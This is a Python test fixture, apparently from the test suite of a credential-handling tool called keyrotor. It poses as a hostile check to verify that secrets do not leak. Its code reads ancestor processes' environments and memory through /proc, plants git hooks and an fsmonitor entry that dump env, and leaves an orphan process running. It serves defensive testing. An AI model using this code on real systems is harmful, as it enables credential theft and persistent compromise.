"""A hostile `command` check: it looks for keyrotor's credentials wherever a check could, and
tries to leave something behind that keyrotor would later run.

Usage: spy_check.py LOOT_DIR [REAL_REPO]

It writes everything it could read into LOOT_DIR (a directory the test made writable for it)
and prints it, so a test can look for secrets in every place the check could put them:
- its own environment;
- for every ancestor process: /proc/PID/environ, cmdline, the readable part of its memory,
  its cwd and open files (and `cat /proc/$PPID/environ`, as a shell script would);
- it plants executable hooks in `.git/hooks/` of its working directory, and, given REAL_REPO
  (a path it guessed), in that repository's `.git/hooks/` and `.git/config`;
- it leaves a process behind in a session of its own, whose pid it records.

It exits 1, so keyrotor shows the end of its output.
"""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
import time
from pathlib import Path

MEMORY_LIMIT = 256 * 1024 * 1024  # per process; a small Python process has far less
HOOKS = ("pre-commit", "post-commit", "pre-push", "reference-transaction", "post-checkout")


def parent_of(pid: int) -> int:
    stat = Path(f"/proc/{pid}/stat").read_text()
    return int(stat.rsplit(")", 1)[1].split()[1])


def ancestors() -> list[int]:
    found, pid = [], os.getppid()
    while pid > 1:
        found.append(pid)
        try:
            pid = parent_of(pid)
        except OSError:
            break
    return found


def read(path: str) -> str:
    try:
        return Path(path).read_bytes().decode("utf-8", errors="replace")
    except OSError as exc:
        return f"<denied: {exc.strerror}>"


def memory(pid: int) -> tuple[bytes, str]:
    """The readable writable mappings of `pid` (heap, stack, anonymous), and what happened."""
    try:
        maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)  # noqa: SIM115
    except OSError as exc:
        return b"", f"<denied: {exc.strerror}>"
    chunks: list[bytes] = []
    total = 0
    with mem:
        for line in maps:
            fields = line.split()
            if "r" not in fields[1] or "w" not in fields[1]:
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if total + end - start > MEMORY_LIMIT:
                break
            try:
                mem.seek(start)
                chunks.append(mem.read(end - start))
                total += end - start
            except OSError:
                continue
    return b"".join(chunks), f"read {total} bytes"


def open_files(pid: int) -> dict[str, str]:
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError as exc:
        return {"*": f"<denied: {exc.strerror}>"}
    out = {}
    for fd in fds:
        path = f"/proc/{pid}/fd/{fd}"
        with contextlib.suppress(OSError):
            target = os.readlink(path)
            if target.startswith("/") and os.path.isfile(path):
                out[target] = read(path)[:4096]
    return out


def plant_hooks(repo: Path, marker: Path) -> dict[str, str]:
    results = {}
    hooks = repo / ".git" / "hooks"
    for name in HOOKS:
        try:
            hooks.mkdir(parents=True, exist_ok=True)
            hook = hooks / name
            hook.write_text(f"#!/bin/sh\nenv > {marker}-{name}\n")
            hook.chmod(0o755)
            results[str(hook)] = "planted"
        except OSError as exc:
            results[str(hooks / name)] = f"<denied: {exc.strerror}>"
    try:
        with open(repo / ".git" / "config", "a") as config:
            config.write(f"[core]\n\tfsmonitor = {hooks / 'pre-commit'}\n")
        results[str(repo / ".git" / "config")] = "changed"
    except OSError as exc:
        results[str(repo / ".git" / "config")] = f"<denied: {exc.strerror}>"
    return results


def leave_a_process_behind(loot: Path) -> int:
    """A grandchild in a session of its own, outside the check's process group."""
    child = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(60)"],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    (loot / f"left-behind-{os.getpid()}.pid").write_text(str(child.pid))
    return child.pid


def main() -> int:
    loot = Path(sys.argv[1])
    real_repo = Path(sys.argv[2]) if len(sys.argv) > 2 else None
    marker = loot / "hook-ran"
    cwd = Path.cwd()
    found: dict[str, object] = {
        "uid": os.getuid(),
        "cwd": str(cwd),
        "cwd_had_git": (cwd / ".git").exists(),
        "cwd_files": sorted(str(p.relative_to(cwd)) for p in cwd.rglob("*")),
        "env": dict(os.environ),
        "status": read("/proc/self/status"),
    }
    for pid in ancestors():
        found[f"{pid}/environ"] = read(f"/proc/{pid}/environ")
        found[f"{pid}/cmdline"] = read(f"/proc/{pid}/cmdline")
        found[f"{pid}/cwd"] = read_link(f"/proc/{pid}/cwd")
        found[f"{pid}/fds"] = open_files(pid)
        data, what = memory(pid)
        found[f"{pid}/mem"] = what
        (loot / f"mem-{os.getpid()}-{pid}.bin").write_bytes(data)
    cat = subprocess.run(["cat", f"/proc/{os.getppid()}/environ"], capture_output=True, check=False)
    found["cat_ppid_environ"] = (cat.stdout + cat.stderr).decode("utf-8", errors="replace")
    found["hooks"] = plant_hooks(cwd, marker)
    if real_repo is not None:
        found["real_repo_hooks"] = plant_hooks(real_repo, marker)
    found["left_behind"] = leave_a_process_behind(loot)
    report = json.dumps(found, indent=1, sort_keys=True)
    (loot / f"found-{os.getpid()}.json").write_text(report)
    (cwd / "found.json").write_text(report)
    print(report, flush=True)
    time.sleep(0.05)
    return 1


def read_link(path: str) -> str:
    try:
        return os.readlink(path)
    except OSError as exc:
        return f"<denied: {exc.strerror}>"


if __name__ == "__main__":
    sys.exit(main())
